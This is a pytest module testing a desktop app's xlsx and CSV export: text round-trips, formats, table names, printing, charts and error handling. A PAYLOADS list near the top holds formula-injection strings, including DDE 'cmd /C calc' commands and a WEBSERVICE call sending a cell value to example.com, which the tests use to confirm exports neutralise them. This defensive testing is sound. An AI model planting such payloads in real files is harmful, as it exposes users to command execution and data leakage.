"""The people's workbook and the CSV as files: what programs and we ourselves find in them."""

import errno
import gc
import re
import sys
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from desktop_pipeline.domain.cells import unguard
from desktop_pipeline.domain.errors import CannotOpenError
from desktop_pipeline.exchange.own_export import STATE_HEADER
from desktop_pipeline.exchange.reading.files import read_book
from desktop_pipeline.exchange.tables import show
from desktop_pipeline.exchange.writing.cell_texts import FORBIDDEN, TOO_LONG, fit_text
from desktop_pipeline.exchange.writing.csv_file import write_csv
from desktop_pipeline.exchange.writing.out_tables import (
    Block,
    ColumnKind,
    KeyFigures,
    OutBook,
    OutColumn,
    OutRow,
    OutTable,
    Summary,
    Trouble,
)
from desktop_pipeline.exchange.writing.workbook import name_sheet_tables, write_workbook
from tests.actions.trips import save_again

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.com","click")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.com/"&A1)',
    '=IMPORTXML("http://example.com","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
)
LONGEST = 32_767
ROOM = "_W_)"  # what every number keeps free at its right
# What XML cannot hold is a problem that is named, half characters no file can hold, and blank space alone is nothing
TEXTS = st.text(
    st.characters(
        blacklist_categories=["Cs"],
        blacklist_characters=[*map(chr, (*range(9), 11, 12, *range(14, 32))), "\ufffe", "\uffff"],
    ),
    min_size=1,
    max_size=24,
).filter(str.strip)
SUMMARY = Summary(
    "Company",
    (("As of", date(2026, 6, 9)),),
    (("Deals", 2, ""), ("Value", 12.5, "EUR")),
    (
        Block(
            "By stage",
            (OutColumn("stage", "Stage"), OutColumn("value", "EUR", "money")),
            (("First", 1.0), ("Second", 2.5)),
            "EUR",
            bars=(1,),
        ),
    ),
)


def no_progress(_done: int, _total: int) -> None:
    """Nobody waits."""


def make_table(rows: Sequence[OutRow], columns: Sequence[OutColumn] = (OutColumn("text", "Text"),)) -> OutTable:
    return OutTable("Deals", tuple(columns), rows, len(rows))


def write_book(path: Path, *tables: OutTable, lists: dict[str, tuple[str, ...]] | None = None) -> tuple[Trouble, ...]:
    return write_workbook(path, OutBook(tables, lambda: SUMMARY, lists or {}, {"Mark": "x"}), no_progress)


def read_texts(path: Path, sheet: str | None) -> list[str]:
    """The first cells of the rows below the header, as an import gets them."""
    book = read_book(path, named=("Text", "Row"))
    (table,) = (table for table in book.tables if table.sheet == sheet)
    place = table.headers.index("Text")
    return [show(row.cells[place]) for row in table.rows]


def number_rows(texts: Sequence[str]) -> OutTable:
    """As every export is: with the state of each row behind it, by which its reader knows whose it is."""
    columns = (OutColumn("row", "Row", "number"), OutColumn("text", "Text"), OutColumn("state", STATE_HEADER))
    return make_table([(place, text, "state") for place, text in enumerate(texts)], columns)


@settings(max_examples=40, phases=[Phase.generate])
@given(texts=st.lists(TEXTS, min_size=250, max_size=250))
def test_ten_thousand_texts_come_back_from_both_files_as_they_were(
    texts: list[str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("texts")
    book, table = folder / "out.xlsx", folder / "out.csv"
    assert write_book(book, number_rows(texts)) == ()
    assert read_texts(book, "Deals") == texts
    kept = [text for text in texts if "\0" not in text]
    assert write_csv(table, number_rows(kept), no_progress) == ()
    assert [unguard(text) for text in read_texts(table, None)] == kept


@pytest.mark.parametrize("text", ["x" * LONGEST, "=" + "1" * (LONGEST - 1), "é" * LONGEST, "😀" * (LONGEST // 2)])
def test_a_text_of_the_full_length_comes_back_whole(tmp_path: Path, text: str) -> None:
    assert write_book(tmp_path / "out.xlsx", number_rows([text])) == ()
    assert read_texts(tmp_path / "out.xlsx", "Deals") == [text]


def test_a_longer_text_and_what_xml_forbids_are_named_and_not_silently_cut(tmp_path: Path) -> None:
    texts = ["fine", "x" * (LONGEST + 1), "a\x0bb", "😀" * (LONGEST // 2 + 1)]
    troubles = write_book(tmp_path / "out.xlsx", number_rows(texts))
    assert [(each.row, each.header, each.trouble) for each in troubles] == [
        (3, "Text", TOO_LONG),
        (4, "Text", FORBIDDEN),
        (5, "Text", TOO_LONG),
    ]
    read = read_texts(tmp_path / "out.xlsx", "Deals")
    assert read[0] == "fine"
    assert len(read[1]) == LONGEST
    assert read[1].endswith("x…")
    assert read[2] == "a\ufffdb"
    assert fit_text("a\x0bb")[1] == FORBIDDEN


def test_formula_payloads_are_texts_in_libreoffice(tmp_path: Path) -> None:
    write_book(tmp_path / "out.xlsx", number_rows(PAYLOADS))
    written = save_again(tmp_path / "out.xlsx", "fods", tmp_path).read_text(encoding="utf-8")
    assert "table:formula=" not in written
    assert written.count("/C calc") == sum("/C calc" in payload for payload in PAYLOADS)
    write_csv(tmp_path / "table.csv", number_rows(PAYLOADS), no_progress)
    plain = save_again(tmp_path / "table.csv", "fods", tmp_path).read_text(encoding="utf-8")
    assert "table:formula=" not in plain


def test_payloads_are_string_cells_with_the_mark_for_texts(tmp_path: Path) -> None:
    write_book(tmp_path / "out.xlsx", number_rows(PAYLOADS))
    sheet = load_workbook(tmp_path / "out.xlsx")["Deals"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells] == [not payload.startswith("{") for payload in PAYLOADS]


COLUMNS = (
    OutColumn("title", "Title"),
    OutColumn("value", "Value", "money"),
    OutColumn("currency", "Currency"),
    OutColumn("probability", "Probability", "share"),
    OutColumn("created", "Created", "day"),
    OutColumn("owner", "Owner", choices="Owners"),
    OutColumn("our_id", "Deal ID (do not change)", "hidden"),
)
ROWS: tuple[OutRow, ...] = (
    ("Oak", 1234.56, "EUR", 0.5, date(2026, 6, 9), "Ann", 1),
    ("Elm", 1200, "JPY", None, None, None, 2),
    ("Ash and a longer name than the others have, much longer", 0.001, "KWD", 1.0, date(1999, 1, 1), "Ben", 3),
)


def test_the_workbook_has_what_people_expect(tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    write_book(out, make_table(ROWS, COLUMNS), lists={"Owners": ("Ann", "Ben"), "Statuses": ("Open",)})
    book = load_workbook(out)
    assert book.sheetnames == ["Summary", "Deals", "Lists"]
    assert book["Lists"].sheet_state == "hidden"
    sheet = book["Deals"]
    assert sheet.tables["Deals"].ref == "A1:G4"
    assert sheet.tables["Deals"].autoFilter is not None
    assert sheet.freeze_panes == "B2"
    assert [sheet.cell(row, 2).number_format for row in (2, 3, 4)] == [
        "#,##0.00 [$EUR]" + ROOM,
        "#,##0 [$JPY]" + ROOM,
        "#,##0.000 [$KWD]" + ROOM,
    ]
    assert [sheet.cell(row, 2).value for row in (2, 3, 4)] == [1234.56, 1200, 0.001]
    assert sheet["E2"].is_date
    assert sheet["E2"].value.date() == date(2026, 6, 9)
    assert sheet["D2"].number_format == "0%" + ROOM
    assert sheet.column_dimensions["G"].hidden
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["E"].width
    (rule,) = sheet.data_validations.dataValidation
    assert (rule.formula1, rule.type) == ("Lists!$A$2:$A$3", "list")
    assert "F2" in rule.sqref
    assert len(book["Summary"]._charts) == 1
    assert book.custom_doc_props["Mark"].value == "x"


@pytest.mark.parametrize(
    ("names", "words"),
    [
        (("Deals", "Win rate by owner"), ["Deals", "Winratebyowner"]),
        # One word for two sheets, also where only their letters' case differs
        (("A B", "AB", "ab"), ["AB", "AB_2", "ab_3"]),
        # These would be cells, a row and a column
        (("Won 2026", "R1C1", "r", "C"), ["Won2026_", "R1C1_", "r_", "C_"]),
        (("Called otherwise than by…", "2026", "…"), ["Calledotherwisethanby", "Table2", "Table3"]),
        (("मूल्य", "العملاء"), ["मलय", "العملاء"]),
    ],
)
def test_tables_have_names_that_programs_take(names: Sequence[str], words: list[str]) -> None:
    assert name_sheet_tables(names) == words


def test_no_two_tables_of_a_workbook_have_one_name(tmp_path: Path) -> None:
    tables = [OutTable(name, (OutColumn("text", "Text"),), (("x",),), 1) for name in ("A B", "AB", "Won 2026")]
    write_book(tmp_path / "out.xlsx", *tables)
    sheets = load_workbook(tmp_path / "out.xlsx").worksheets
    assert [list(sheet.tables) for sheet in sheets] == [[], ["AB"], ["AB_2"], ["Won2026_"]]


def test_numbers_are_shown_as_what_they_are_and_end_where_their_heads_do(tmp_path: Path) -> None:
    kinds: tuple[ColumnKind, ...] = ("count", "decimal", "share", "money", "number")
    columns = [OutColumn(kind, f"A head of {kind}", kind, currency="EUR") for kind in kinds]
    write_book(tmp_path / "out.xlsx", make_table([(1234, 14.7738095238095, 2 / 9, 2.5, 3.25)], columns))
    sheet = load_workbook(tmp_path / "out.xlsx")["Deals"]
    shown = ("#,##0", "#,##0.00", "0%", "#,##0.00 [$EUR]", "General")
    assert [cell.number_format for cell in sheet[2]] == [each + ROOM for each in shown]
    assert {cell.alignment.horizontal for row in sheet.iter_rows() for cell in row} == {"right"}
    # The button that filters lies over the end of a head
    assert {cell.alignment.indent for cell in sheet[1]} == {2}
    # A share of many places needs no more room than what is shown of it
    assert sheet.column_dimensions["C"].width == sheet.column_dimensions["D"].width == len("A head of share") + 4.5


def test_a_printed_sheet_tells_what_it_is_and_which_page(tmp_path: Path) -> None:
    write_book(tmp_path / "out.xlsx", make_table(ROWS, COLUMNS))
    book = load_workbook(tmp_path / "out.xlsx")
    # Where nothing is offered there is no sheet of lists
    assert book.sheetnames == ["Summary", "Deals"]
    for sheet in book.worksheets:
        foot = sheet.oddFooter
        assert (foot.left.text, foot.center.text, foot.right.text) == ("&F", "&A", "&P / &N")
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert book["Deals"].print_title_rows == "$1:$1"
    assert (book.properties.creator, book.properties.title) == ("Desktop Pipeline", "Company")


def test_sentences_of_the_first_sheet_have_lines_and_figures_stand_right(tmp_path: Path) -> None:
    sentence = "A sentence that is longer than a line can be. " * 8
    out = tmp_path / "out.xlsx"
    write_workbook(out, OutBook((), lambda: Summary("Report", (("", sentence), ("Won", "3")))), no_progress)
    sheet = load_workbook(out)["Summary"]
    assert sheet["B3"].value == sentence
    assert sheet["B3"].alignment.wrap_text
    assert sheet.row_dimensions[3].height == 15 * 4
    assert sheet.row_dimensions[4].height is None
    write_book(out)
    sheet = load_workbook(out)["Summary"]
    rows = {row[0].value: row[1] for row in sheet.iter_rows(min_col=1, max_col=2)}
    assert (rows["Deals"].number_format, rows["Value"].number_format) == ("#,##0" + ROOM, "#,##0.00 [$EUR]" + ROOM)
    assert {rows[name].alignment.horizontal for name in ("Deals", "Value", "Second")} == {"right"}
    assert rows["As of"].alignment.horizontal == "left"


def test_a_long_head_has_lines_and_its_message_a_title_that_programs_take(tmp_path: Path) -> None:
    header = "What the customer told us about the time until which it must be done"
    columns = [OutColumn("when", header, choices="Times"), OutColumn("value", "Value", "money", currency="EUR")]
    write_book(tmp_path / "out.xlsx", make_table([("Soon", 2.0)], columns), lists={"Times": ("Soon",)})
    sheet = load_workbook(tmp_path / "out.xlsx")["Deals"]
    assert sheet.column_dimensions["A"].width < 32
    assert sheet.row_dimensions[1].height == 21 + 2 * 15
    assert sheet["A1"].alignment.wrap_text
    (rule,) = sheet.data_validations.dataValidation
    assert rule.errorTitle == header[:32]


@pytest.mark.parametrize(("columns", "pages"), [(4, 1), (20, 2), (70, 5)])
def test_a_wide_table_is_printed_on_pages_that_can_be_read(tmp_path: Path, columns: int, pages: int) -> None:
    heads = [OutColumn(f"c{place}", f"Column {place:04}") for place in range(columns)]
    write_book(tmp_path / "out.xlsx", make_table([("x",) * columns], heads))
    assert load_workbook(tmp_path / "out.xlsx")["Deals"].page_setup.fitToWidth == pages


def test_what_is_nothing_but_zeros_has_no_chart(tmp_path: Path) -> None:
    (block,) = SUMMARY.blocks
    empty = replace(block, title="Nothing", rows=(("First", 0.0), ("Second", None)))
    summary = replace(SUMMARY, blocks=(empty, block))
    write_workbook(tmp_path / "out.xlsx", OutBook((), lambda: summary), no_progress)
    sheet = load_workbook(tmp_path / "out.xlsx")["Summary"]
    assert [chart.title.tx.rich.p[0].r[0].t for chart in sheet._charts] == ["By stage"]
    assert "Nothing" in {cell.value for cell in sheet["A"]}


@pytest.mark.parametrize("charts", [1, 2, 5])
def test_no_sentence_of_the_first_sheet_lies_behind_a_chart(tmp_path: Path, charts: int) -> None:
    (block,) = SUMMARY.blocks
    key = KeyFigures(
        "Figures", (), tuple(replace(block, title=f"Block {place}") for place in range(charts)), ("Said.",)
    )
    write_workbook(tmp_path / "out.xlsx", OutBook((), lambda: replace(SUMMARY, blocks=(), key=key)), no_progress)
    sheet = load_workbook(tmp_path / "out.xlsx")["Summary"]
    anchors = [chart.anchor for chart in sheet._charts]
    cells = {cell.value: cell.row - 1 for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert len(anchors) == charts
    assert max(anchor.to.row for anchor in anchors) <= cells["Said."] < cells["Block 0"]
    # On paper tables begin on a page of their own where there are many charts
    assert [each.id for each in sheet.row_breaks.brk] == ([cells["Said."] + 1] if charts > 2 else [])
    # Two beside each other, or one as wide as both
    spans = [(anchor._from.row, anchor._from.col, anchor.to.col) for anchor in anchors]
    assert len(set(spans)) == charts
    for row in {row for row, _start, _end in spans}:
        assert [span[1:] for span in spans if span[0] == row] in [[(3, 8), (8, 13)], [(3, 13)]]


def test_an_empty_table_is_still_a_table(tmp_path: Path) -> None:
    write_book(tmp_path / "out.xlsx", make_table((), COLUMNS))
    assert load_workbook(tmp_path / "out.xlsx")["Deals"].tables["Deals"].ref == "A1:G2"


def test_giving_up_leaves_nothing_behind_also_while_it_is_packed(tmp_path: Path) -> None:
    rows = [(place, "text") for place in range(2_000)]
    for last in (500, 2_000):

        class GivenUpError(Exception):
            """Somebody has pressed Cancel."""

        def progress(done: int, _total: int, last: int = last, stop: type[Exception] = GivenUpError) -> None:
            if done >= last:
                raise stop

        table = make_table(rows, (OutColumn("row", "Row", "number"), OutColumn("text", "Text")))
        with pytest.raises(GivenUpError):
            write_workbook(tmp_path / "out.xlsx", OutBook((table,), lambda: SUMMARY), progress)
        with pytest.raises(GivenUpError):
            write_csv(tmp_path / "out.csv", table, progress)
        assert list(tmp_path.iterdir()) == []


def test_a_disk_that_fills_up_while_it_is_packed_is_told_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    told: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", told.append)
    packed = 0

    def progress(done: int, _total: int) -> None:
        nonlocal packed
        packed += done >= 2_000
        if packed > 20:
            raise OSError(errno.ENOSPC, "No space left on device")

    table = make_table([(place, "text") for place in range(2_000)], (OutColumn("row", "Row", "number"),) * 2)
    with pytest.raises(CannotOpenError, match="No space left"):
        write_workbook(tmp_path / "out.xlsx", OutBook((table,), lambda: SUMMARY), progress)
    gc.collect()
    assert told == []
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_is_not_there_is_one_sentence(tmp_path: Path) -> None:
    for name, write in (("out.xlsx", write_book), ("out.csv", lambda path, table: write_csv(path, table, no_progress))):
        with pytest.raises(CannotOpenError, match="cannot be written"):
            write(tmp_path / "nowhere" / name, number_rows(["x"]))


def test_no_part_of_the_file_holds_a_formula(tmp_path: Path) -> None:
    write_book(tmp_path / "out.xlsx", number_rows(PAYLOADS), lists={})
    with zipfile.ZipFile(tmp_path / "out.xlsx") as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if "worksheets/sheet" in name]
    assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets)
